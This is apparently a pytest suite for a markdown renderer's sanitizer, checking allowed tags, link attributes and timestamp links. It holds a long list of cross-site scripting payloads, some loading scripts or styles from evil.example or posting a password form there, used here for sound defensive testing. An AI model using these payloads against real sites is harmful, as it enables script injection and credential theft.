"""Markdown of members as HTML: nothing that runs, loads or leads astray, and times that lead to their moments."""

from html.parser import HTMLParser

import pytest

from web.links import moment_query
from web.markdown import markdown

TAGS = {
    "a", "blockquote", "br", "code", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "strong", "ul",
}  # fmt: skip
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<form action=https://evil.example><input name=password></form>",
    "<!--><img src=x onerror=alert(1)>-->",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "onmouseover=alert(1) x=")',
    '[x](https://a.example/" onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "```js\" onmouseover=\"alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[12:34<script>alert(1)</script>]",
    "[12:34](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>",
    "<\u2028script>alert(1)</script>",
    "**<b onclick=alert(1)>x</b>**",
)  # fmt: skip


class Tags(HTMLParser):
    """The elements of a piece of HTML with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came through: {data!r}")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_comes_through_that_runs_loads_or_leads_astray(payload: str) -> None:
    for text in (payload, f"Before {payload} after", f"- {payload}", f"> **{payload}**", f"[00:04] {payload}"):
        for tag, attributes in Tags(markdown(text, moment_query)).found:
            assert tag in TAGS
            assert set(attributes) <= {"a": {"href", "title", "class", "rel"}, "ol": {"start"}}.get(tag, set())
            if tag == "a":
                assert attributes["rel"] == "nofollow noopener"
                assert (attributes.get("class") or "time") == "time"
                address = attributes.get("href") or ""
                assert address == "" or address.startswith(("https://", "?t=", "mailto:")) or (
                    address.startswith("/") and address[1] not in "/\\"
                )  # fmt: skip


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("[00:04]", '<a href="?t=4" class="time" rel="nofollow noopener">00:04</a>'),
        ("[1:02:03]", '<a href="?t=3723" class="time" rel="nofollow noopener">1:02:03</a>'),
        ("[99:99] [4] [00:4]", "[99:99] [4] [00:4]"),
        ("`[00:04]`", "<code>[00:04]</code>"),
        (r"\[00:04\]", "[00:04]"),
        ("[at [00:04]](https://a.example)", '<a href="https://a.example" rel="nofollow noopener">at [00:04]</a>'),
        ("https://a.example/b", '<a href="https://a.example/b" rel="nofollow noopener">https://a.example/b</a>'),
        ("a.example 1.5 J", "a.example 1.5 J"),
        ("5 < 6 & 7 > 2", "5 &lt; 6 &amp; 7 &gt; 2"),
        ("**not** *once*", "<strong>not</strong> <em>once</em>"),
    ],
)
def test_what_a_paragraph_becomes(text: str, html: str) -> None:
    assert markdown(text, moment_query) == f"<p>{html}</p>\n"


def test_a_reference_cannot_make_a_time_lead_elsewhere() -> None:
    links = [attributes["href"] for tag, attributes in Tags(
        markdown("See [00:04].\n\n[00:04]: https://evil.example", moment_query)
    ).found if tag == "a"]  # fmt: skip
    assert links == ["?t=4", "?t=4", "https://evil.example"]


def test_headings_stand_below_those_of_the_page() -> None:
    assert markdown("# One\n\n## Two\n\n###### Six", moment_query) == "<h3>One</h3>\n<h4>Two</h4>\n<h6>Six</h6>\n"
    assert markdown("## One\n\n### Two", moment_query) == "<h3>One</h3>\n<h4>Two</h4>\n"
